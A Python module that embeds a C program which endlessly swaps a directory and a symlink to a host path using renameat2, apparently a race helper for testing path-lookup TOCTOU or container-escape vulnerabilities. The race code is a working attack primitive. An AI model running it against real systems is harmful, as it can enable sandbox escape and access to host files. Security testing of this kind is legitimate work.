"""A program that races against whoever looks a path up."""

# Exchanges a directory and a link to a place of the host for each other, for ever.
SWAPPER = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    time_t end = time(0) + PATIENCE;
    long count = 0;
    mkdir("/v/d", 0755);
    symlink(argv[1], "/v/l");
    while (time(0) < end && access("/v/stop", F_OK))
        if (!syscall(SYS_renameat2, AT_FDCWD, "/v/d", AT_FDCWD, "/v/l", 2)) count++;
    printf("%ld\n", count);
    return 0;
}
"""
